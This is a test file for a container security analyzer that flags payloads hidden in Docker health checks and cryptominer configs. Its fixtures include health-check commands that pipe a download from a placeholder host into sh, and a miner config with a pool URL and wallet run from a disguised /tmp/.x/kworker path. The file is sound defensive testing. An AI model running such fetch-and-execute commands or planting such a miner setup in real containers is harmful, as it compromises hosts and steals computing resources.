// The watcher's analyzer: health checks judged at create time, config files read from the container judged
// like uploads, and benign look-alikes left quiet.
import { describe, expect, it } from 'vitest';
import { atLeast } from '../core/report/finding.js';
import { createCoreAnalyzer, healthcheckCommand } from './core-analyzer.js';
import type { ContainerInspect } from './inspect-types.js';

const WALLET = `4${'A'.repeat(94)}`;
const c = (cmd: string[], more: Partial<NonNullable<ContainerInspect['Config']>> = {}): ContainerInspect =>
  ({ Id: 'c0ffee', Name: '/web', Config: { Image: 'alpine', Cmd: cmd, ...more }, HostConfig: {} });
const loud = (f: { ruleId: string; severity: 'low' | 'medium' | 'high' | 'critical' | 'info' }[]) =>
  f.filter((x) => atLeast(x.severity, 'high')).map((x) => x.ruleId);

describe('core analyzer', () => {
  const an = createCoreAnalyzer();
  it('reads the health check command in both forms', () => {
    expect(healthcheckCommand(c([], { Healthcheck: { Test: ['CMD-SHELL', 'curl -s http://x | sh'] } }))).toBe('curl -s http://x | sh');
    expect(healthcheckCommand(c([], { Healthcheck: { Test: ['CMD', 'wget', '-q', 'x'] } }))).toEqual(['wget', '-q', 'x']);
    expect(healthcheckCommand(c([], { Healthcheck: { Test: ['NONE'] } }))).toBeUndefined();
  });
  it('judges a payload hidden in the health check at create time, with the field named', () => {
    const f = an.container(c(['sleep', '300'], { Healthcheck: { Test: ['CMD-SHELL', 'wget -qO- http://payload.example.invalid/h | sh'] } }));
    const hit = f.find((x) => x.ruleId === 'PCL-TTP-002');
    expect(hit?.severity).toBe('high');
    expect(hit?.evidence[0]?.location).toMatch(/^Config\.Healthcheck\.Test/);
    expect(loud(an.container(c(['nginx'], { Healthcheck: { Test: ['CMD-SHELL', 'ps | grep -v grep | grep -q xmrig && exit 1 || exit 0'] } })))).toEqual([]);
  });
  it('judges config files read from the container: a pool in config.json is a miner config', () => {
    const files = [{ path: '/tmp/config.json', content: `{"autosave":true,"pools":[{"url":"pool.example.invalid:3333","user":"${WALLET}","pass":"x"}]}` }];
    const f = an.container(c(['/tmp/.x/kworker', '-c', '/tmp/config.json']), files);
    expect(f.find((x) => x.ruleId === 'PCL-MIN-007')).toMatchObject({ severity: 'critical', evidence: [{ kind: 'file', location: 'archive:/tmp/config.json' }] });
    expect(f.find((x) => x.ruleId === 'PCL-MIN-005')?.severity).toBe('high');
    expect(loud(an.container(c(['/tmp/.x/kworker', '-c', '/tmp/config.json'])))).toEqual([]);
    expect(loud(an.processes(c(['sleep', '1']), [{ pid: '9', user: 'root', cmd: '/tmp/.x/kworker -c /tmp/config.json' }], [], undefined, files)))
      .toContain('PCL-MIN-007');
    const app = [{ path: '/app/config.json', content: '{"port":3333,"db":{"url":"postgres://db:5432/app","user":"app"}}' }];
    expect(loud(an.container(c(['/app/bin/server', '-c', '/app/config.json']), app))).toEqual([]);
  });
});
